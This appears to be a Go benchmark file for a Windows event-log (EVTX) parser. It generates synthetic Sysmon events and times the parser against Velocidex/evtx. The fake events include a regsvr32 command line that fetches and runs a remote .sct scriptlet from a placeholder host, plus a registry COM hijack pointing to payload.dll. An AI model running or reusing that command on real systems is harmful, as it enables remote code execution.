package parser

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"www.velocidex.com/golang/evtx"
)

// The benchmarks read a dense Sysmon log of at least 200 MB: the file named
// by EVTRIAGE_BENCH_EVTX, or one generated once with the project's Writer
// into the temporary folder (EVTRIAGE_BENCH_MB sets its size, default 256).
//
//	go test ./parser -run '^$' -bench . -benchtime 3x
//
// Each iteration reads the whole file; b.SetBytes gives MB/s and the
// records/s metric is reported beside it. BenchmarkVelocidex reads the same
// file with Velocidex/evtx (each chunk parsed with a private reader, as
// notes/evtx-facts.md §2 recommends) at the same worker counts.

var benchOnce struct {
	sync.Once
	path string
	err  error
}

func benchFile(b *testing.B) string {
	b.Helper()
	if p := os.Getenv("EVTRIAGE_BENCH_EVTX"); p != "" {
		return p
	}
	benchOnce.Do(func() {
		mb := 256
		if s := os.Getenv("EVTRIAGE_BENCH_MB"); s != "" {
			if n, err := strconv.Atoi(s); err == nil && n > 0 {
				mb = n
			}
		}
		path := filepath.Join(os.TempDir(), fmt.Sprintf("evtriage-bench-sysmon-%dMB.evtx", mb))
		benchOnce.path = path
		if fi, err := os.Stat(path); err == nil && fi.Size() >= int64(mb)<<20 {
			return
		}
		benchOnce.err = generateSysmon(path, int64(mb)<<20)
	})
	if benchOnce.err != nil {
		b.Fatalf("generating the benchmark log: %v", benchOnce.err)
	}
	return benchOnce.path
}

// generateSysmon writes a dense Sysmon log (process creation, network,
// image load, file and registry events with realistic values) of at least
// size bytes.
func generateSysmon(path string, size int64) error {
	tmp := path + ".tmp"
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	w := NewWriter(f)
	t0 := time.Date(2024, 5, 12, 8, 0, 0, 0, time.UTC)
	for i := 0; w.Size() < size; i++ {
		if err := w.Write(sysmonEvent(i, t0)); err != nil {
			f.Close()
			return err
		}
	}
	if err := w.Close(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

func sysmonEvent(i int, t0 time.Time) *Event {
	pid := strconv.Itoa(1000 + i%7919)
	ppid := strconv.Itoa(500 + i%3571)
	guid := fmt.Sprintf("{365ABB72-%04X-5CD8-0000-0010%08X}", i%65536, i)
	at := t0.Add(time.Duration(i) * 37 * time.Millisecond)
	utc := at.Format("2006-01-02 15:04:05.000")
	img := []string{`C:\Windows\System32\regsvr32.exe`, `C:\Windows\System32\svchost.exe`, `C:\Program Files\Mozilla Firefox\firefox.exe`, `C:\Windows\explorer.exe`}[i%4]
	ev := &Event{
		RecordID: uint64(i + 1), Time: at, Provider: "Microsoft-Windows-Sysmon",
		ProviderGUID: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", Channel: "Microsoft-Windows-Sysmon/Operational",
		Computer: "DESKTOP-NTSSLJD.corp.example.com", Version: 5, Level: 4, Keywords: 0x8000000000000000,
		ProcessID: 2316, ThreadID: uint32(3000 + i%97), UserID: "S-1-5-18",
	}
	switch i % 5 {
	case 0, 1:
		ev.EventID, ev.Task = 1, 1
		ev.Fields = []Field{
			{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", guid}, {"ProcessId", pid}, {"Image", img},
			{"FileVersion", "10.0.19041.1 (WinBuild.160101.0800)"}, {"Description", "Microsoft(C) Register Server"},
			{"Product", "Microsoft® Windows® Operating System"}, {"Company", "Microsoft Corporation"},
			{"OriginalFileName", "REGSVR32.EXE"},
			{"CommandLine", "regsvr32.exe /s /u /i:http://update.example.com/c/" + strconv.Itoa(i) + ".sct scrobj.dll"},
			{"CurrentDirectory", `C:\Users\alice\AppData\Local\Temp\`}, {"User", `CORP\alice`},
			{"LogonGuid", "{365ABB72-63FC-5CD8-0000-0020EE3E0100}"}, {"LogonId", "0x13eee"},
			{"TerminalSessionId", "1"}, {"IntegrityLevel", "Medium"},
			{"Hashes", "SHA1=A774A816662FF5B75669AA5BCE751BAB9D0972B8,MD5=432BE6CF7311062633459EEF6B242FB5,SHA256=890C1734ED1EF6B2422A9B21D6205CF91E014ADD8A7F41AA5A294FCF60631A7B,IMPHASH=A2DAD36BD73280726DA578EB659D0583"},
			{"ParentProcessGuid", "{365ABB72-6693-5CD8-0000-0010AE4C0E00}"}, {"ParentProcessId", ppid},
			{"ParentImage", `C:\Windows\System32\cmd.exe`}, {"ParentCommandLine", `"C:\Windows\system32\cmd.exe" /c run.bat`},
			{"ParentUser", `CORP\alice`},
		}
	case 2:
		ev.EventID, ev.Task = 3, 3
		ev.Fields = []Field{
			{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", guid}, {"ProcessId", pid}, {"Image", img},
			{"User", `CORP\alice`}, {"Protocol", "tcp"}, {"Initiated", "true"}, {"SourceIsIpv6", "false"},
			{"SourceIp", "10.0.2.15"}, {"SourceHostname", "DESKTOP-NTSSLJD.corp.example.com"}, {"SourcePort", strconv.Itoa(49152 + i%16000)},
			{"SourcePortName", "-"}, {"DestinationIsIpv6", "false"}, {"DestinationIp", "93.184.216." + strconv.Itoa(i%256)},
			{"DestinationHostname", "update.example.com"}, {"DestinationPort", "443"}, {"DestinationPortName", "https"},
		}
	case 3:
		ev.EventID, ev.Task = 7, 7
		ev.Fields = []Field{
			{"RuleName", "-"}, {"UtcTime", utc}, {"ProcessGuid", guid}, {"ProcessId", pid}, {"Image", img},
			{"ImageLoaded", `C:\Windows\System32\scrobj.dll`}, {"FileVersion", "5.812.10240.16384"},
			{"Description", "Windows ® Script Component Runtime"}, {"Product", "Microsoft ® Windows Script Component Runtime"},
			{"Company", "Microsoft Corporation"}, {"OriginalFileName", "scrobj.dll"},
			{"Hashes", "SHA1=0D1D4E6C42AB1DBE21DC0C3F51D5C7B1D2E0A4C3,MD5=9C3E5C2B1A0F4E8D7C6B5A4F3E2D1C0B,SHA256=5E2F7A1C9D3B8E4F6A0C2D5B7E9F1A3C4D6E8F0A2B4C6D8E0F1A3B5C7D9E1F3A,IMPHASH=0F3E1B2A4C5D6E7F8A9B0C1D2E3F4A5B"},
			{"Signed", "true"}, {"Signature", "Microsoft Windows"}, {"SignatureStatus", "Valid"}, {"User", `CORP\alice`},
		}
	case 4:
		ev.EventID, ev.Task = 13, 13
		ev.Fields = []Field{
			{"RuleName", "T1112"}, {"EventType", "SetValue"}, {"UtcTime", utc}, {"ProcessGuid", guid}, {"ProcessId", pid},
			{"Image", img}, {"TargetObject", `HKU\S-1-5-21-1-2-3-1001\Software\Classes\CLSID\{` + strconv.Itoa(i) + `}\InprocServer32\(Default)`},
			{"Details", `C:\Users\alice\AppData\Roaming\payload.dll`}, {"User", `CORP\alice`},
		}
	}
	return ev
}

func BenchmarkReader(b *testing.B) {
	path := benchFile(b)
	fi, err := os.Stat(path)
	if err != nil {
		b.Fatal(err)
	}
	for _, workers := range []int{1, 2} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.SetBytes(fi.Size())
			var records int
			for b.Loop() {
				f, err := Open(path, Options{Workers: workers})
				if err != nil {
					b.Fatal(err)
				}
				records = 0
				if err := f.Events(context.Background(), func(*Event) error { records++; return nil }); err != nil {
					b.Fatal(err)
				}
				f.Close()
			}
			b.ReportMetric(float64(records)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
		})
	}
}

func BenchmarkVelocidex(b *testing.B) {
	path := benchFile(b)
	data, err := os.ReadFile(path)
	if err != nil {
		b.Fatal(err)
	}
	for _, workers := range []int{1, 2} {
		b.Run(fmt.Sprintf("workers=%d", workers), func(b *testing.B) {
			b.SetBytes(int64(len(data)))
			var records int64
			for b.Loop() {
				chunks, err := evtx.GetChunks(bytes.NewReader(data))
				if err != nil {
					b.Fatal(err)
				}
				var n atomic.Int64
				var next atomic.Int64
				var wg sync.WaitGroup
				for range workers {
					wg.Add(1)
					go func() {
						defer wg.Done()
						for {
							i := int(next.Add(1) - 1)
							if i >= len(chunks) {
								return
							}
							c := chunks[i]
							c.Fd = bytes.NewReader(data) // private reader
							recs, _ := c.Parse(0)
							n.Add(int64(len(recs)))
						}
					}()
				}
				wg.Wait()
				records = n.Load()
			}
			b.ReportMetric(float64(records)*float64(b.N)/b.Elapsed().Seconds(), "records/s")
		})
	}
}
